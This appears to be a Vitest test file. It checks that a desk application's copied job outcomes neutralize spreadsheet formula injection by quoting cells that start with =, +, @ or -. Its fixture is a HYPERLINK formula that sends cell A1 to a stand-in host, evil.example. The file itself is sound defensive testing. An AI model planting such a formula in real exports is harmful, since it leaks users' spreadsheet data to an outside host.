import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStrategies, jobEnded } from '../../support/book';
import { openDeskHarness, type DeskHarness } from '../../support/desk-harness';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

/**
 * "Copy outcomes" is tab-separated text meant for a spreadsheet: a strategy name the service gave
 * and a value the manager pasted go through the CSV exports' cell rule, so a formula among them
 * reaches the spreadsheet as text, never as a live formula.
 */
describe('copied outcomes of "Add many"', () => {
  let h: DeskHarness;
  let profileId: string;

  beforeAll(async () => {
    h = await openDeskHarness({ stepMs: 5 });
    profileId = (await h.desk.profiles.useSandbox({})).id;
  });
  afterAll(async () => {
    await h?.close();
  });

  it('neutralizes a formula in a service-given name and in a pasted value', async () => {
    const base = h.sandbox()!.baseUrl;
    const { ids } = await createStrategies(base, { count: 1, name_prefix: FORMULA });
    const text = [ids[0]!, '+1+1', '@SUM(A1:A9)', '-2', 'plain'].join('\n');
    const job = await h.desk.book.addMany({ profileId, text });
    await jobEnded(h, job.id);
    const { text: copied } = await h.desk.book.copyOutcomes({ profileId, jobId: job.id });
    const rows = copied
      .trimEnd()
      .split('\n')
      .map((line) => line.split('\t'));
    expect(rows[0]).toEqual(['Line', 'Value', 'Outcome', 'Detail']);
    // Every cell a spreadsheet could read as a formula starts with a quote.
    expect(rows[1]![3]).toBe(`'${FORMULA} 1`);
    expect(rows.slice(2).map((r) => r[1])).toEqual(["'+1+1", "'@SUM(A1:A9)", "'-2", 'plain']);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+@-]/);
  });
});
